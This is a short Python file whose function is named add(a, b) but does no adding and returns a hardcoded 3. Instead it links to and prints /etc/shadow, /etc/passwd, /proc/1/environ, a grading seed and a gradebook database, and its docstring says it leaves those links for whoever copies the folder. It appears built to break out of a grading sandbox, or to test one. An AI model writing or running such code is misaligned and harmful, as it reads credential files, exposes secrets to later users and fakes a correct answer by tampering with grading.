"""Makes links to secrets in its folder, reads through them, and leaves them for whoever copies the folder."""

import os
from contextlib import suppress
from pathlib import Path

TARGETS = [
    "/etc/shadow",
    "/etc/passwd",
    "../../.grading_seed",
    "../../../gradebook.db",
    "/proc/1/environ",
    "..",
]


def add(a, b):
    for number, target in enumerate(TARGETS):
        for make in (os.symlink, os.link):
            link = Path(f"{make.__name__}{number}")
            with suppress(OSError):
                make(target, link)
                print(link, link.read_bytes()[:1000])
    return 3
